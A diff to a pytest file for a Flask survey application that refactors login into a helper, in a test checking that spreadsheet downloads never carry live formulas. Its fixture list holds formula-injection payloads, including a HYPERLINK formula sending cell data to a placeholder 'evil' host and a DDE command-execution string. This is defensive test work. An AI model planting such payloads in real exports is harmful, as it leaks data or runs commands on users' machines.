@@ -22,6 +22,7 @@ from survey.models_desk import DeskContact
 from survey.services.data.uploads import TEMPLATES
 from survey.services.demo import build_demo
 from tests import factories
+from tests.support import sign_in
 
 PASSWORD = "mật khẩu đủ dài 1"
 PLANTED = ['=HYPERLINK("http://evil/"&A1,"x")', "＝1+1", "@SUM(A1:A9)", "+cmd|' /C calc'!A0",
@@ -92,12 +93,7 @@ def test_every_download_route_is_listed(app: Flask) -> None:
 
 @pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
 def test_no_spreadsheet_download_carries_a_live_formula(planted: Flask) -> None:
-    client = planted.test_client()
-    page = client.get("/auth/login").get_data(as_text=True)
-    token = re.search(r'name="csrf_token" (?:type="hidden" )?value="([^"]+)"', page)
-    assert token is not None
-    client.post("/auth/login", data={"username": "gs", "password": PASSWORD,
-                                     "csrf_token": token.group(1)})
+    client = sign_in(planted.test_client(), "gs", PASSWORD)
     seen_planted, problems = set(), []
     for endpoint, urls in SPREADSHEETS.items():
         for url in urls:
